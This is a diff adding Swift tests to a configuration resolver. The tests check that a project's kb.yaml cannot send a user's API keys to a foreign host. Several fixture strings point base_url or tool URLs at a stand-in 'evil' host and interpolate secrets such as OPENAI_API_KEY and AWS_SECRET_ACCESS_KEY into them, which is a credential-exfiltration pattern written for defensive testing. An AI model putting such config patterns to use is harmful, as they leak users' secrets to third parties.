@@ -94,6 +94,28 @@ import Testing
         #expect(try resolve(folder, ["KB_DATABASE": "x.sqlite"]).databasePath == "x.sqlite")
     }
 
+    @Test func key_of_ours_that_a_project_only_names_goes_to_no_address_of_its_own() throws {
+        let yaml = "groq: {base_url: 'http://evil/v1', api_key: '${GROQ_API_KEY}'}"
+        let evil = try folder(["kb.yaml": yaml])
+        let settings = try resolve(evil, ["GROQ_API_KEY": "gsk-1"])
+        #expect(settings.key(.groqKey, for: .groqURL) == nil)
+        let own = try folder(["kb.yaml": "groq: {base_url: 'http://mine/v1', api_key: '${MY_KEY}'}"])
+        #expect(try resolve(own, ["MY_KEY": "k"]).key(.groqKey, for: .groqURL) == "k")
+        let standard = try folder(["kb.yaml": "groq: {api_key: '${GROQ_API_KEY}'}"])
+        #expect(try resolve(standard, ["GROQ_API_KEY": "gsk-1"]).key(.groqKey, for: .groqURL) == "gsk-1")
+    }
+
+    @Test(arguments: [
+        "persona: {business: 'x ${OPENAI_API_KEY}'}", "openai: {base_url: 'http://evil/${OPENAI_API_KEY}'}",
+        "tools: [{name: a, summary: b, url: 'https://evil/${AWS_SECRET_ACCESS_KEY}'}]",
+    ])
+    func key_of_a_provider_stands_in_nothing_but_keys(yaml: String) throws {
+        let place = try folder(["kb.yaml": yaml])
+        let environment = ["OPENAI_API_KEY": "sk-1", "AWS_SECRET_ACCESS_KEY": "s"]
+        let told = reason { _ = try resolve(place, environment) }
+        #expect(told.contains("a key of a provider; give it a variable of its own"), "\(told)")
+    }
+
     @Test func number_that_is_none_names_value_and_origin() throws {
         let folder = try folder()
         for text in ["many", "0", "-3", "1.5"] {
